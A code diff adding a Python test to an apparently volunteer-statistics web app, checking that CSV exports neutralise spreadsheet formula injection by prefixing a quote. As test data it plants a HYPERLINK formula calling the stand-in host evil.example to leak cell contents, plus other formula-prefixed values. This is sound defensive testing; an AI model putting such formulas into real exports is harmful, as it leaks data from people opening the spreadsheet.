@@ -451,3 +451,38 @@ async def test_reports_read_from_months_and_edge_days_equal_reports_from_days(
     assert march.totals[SESSIONS] == 10 + 2  # 1 March 00:30 and 31 March 23:30
     april_first = await report({"from": "2025-04-01", "to": "2025-04-01"})
     assert april_first.totals[SESSIONS] == 1
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
+    running: Running, coordinator: Account, http: aiohttp.ClientSession
+) -> None:
+    """Names typed by people (a volunteer's, an organisation code from old sheets) reach the
+    CSV: one starting with =, +, -, @, tab or CR gets a leading quote (OWASP)."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
+    evil = await make_account(running, "evil@example.org")
+    async with running.sessionmaker.begin() as db:
+        user = await db.get_one(User, evil.user.id)
+        user.name = formula
+    codes = ["+33 6 12", "-1+2", "@SUM(A1:A9)", "\tTAB", "\rCR", "caf"]
+    specs = [
+        {
+            "kind": EventKind.SHEET_FILED,
+            "channel": "drop_in",
+            "organisations": codes,
+            "volunteer_id": evil.user.id,
+            "postal_code": "75011",
+        }
+        for _ in range(6)
+    ]
+    await _record_all(running, coordinator.user.association_id, specs)
+    await login(http, running, coordinator)
+    cells: dict[str, list[list[str]]] = {}
+    for table in ("volunteers", "organisations"):
+        async with http.get(running.url("/stats.csv"), params={**PERIOD, "table": table}) as resp:
+            assert resp.status == 200
+            cells[table] = list(csv.reader(io.StringIO(await resp.text(), newline="")))
+    assert ["'" + formula, "6"] == cells["volunteers"][1][1:]
+    labels = {row[1] for row in cells["organisations"][1:]}
+    assert {"'+33 6 12", "'-1+2", "'@SUM(A1:A9)", "'\tTAB", "'\rCR"} <= labels
+    for row in cells["volunteers"] + cells["organisations"]:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
